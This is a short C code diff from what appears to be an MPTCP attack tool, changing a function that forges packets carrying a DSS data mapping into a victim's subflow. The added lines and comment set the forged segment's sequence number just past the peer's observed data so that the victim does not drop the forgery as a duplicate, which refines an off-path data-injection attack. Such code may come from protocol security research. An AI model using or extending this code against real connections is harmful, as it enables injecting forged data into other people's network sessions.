@@ -43,6 +43,12 @@ static int dsn_write(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_t
   (void)now;
   if (!a->data_ack_known || !f->used)
     return 1; /* not yet: no DATA_ACK seen, or the subflow's ISN unknown */
+  /* In sequence after the peer's data seen so far, not at the victim's
+   * last ACK: with delayed ACKs the victim may hold more than it
+   * acknowledged, and a forgery below its RCV.NXT is dropped as a
+   * duplicate at the subflow level. What the peer has in flight arrives
+   * after (its first bytes then are the duplicates). */
+  h->seq = f->nxt;
   h->flags = MPTCP_TH_ACK | MPTCP_TH_PSH;
   h->opts |= MPTCP_OPT_DSS;
   h->dss.flags = MPTCP_DSS_MAP;
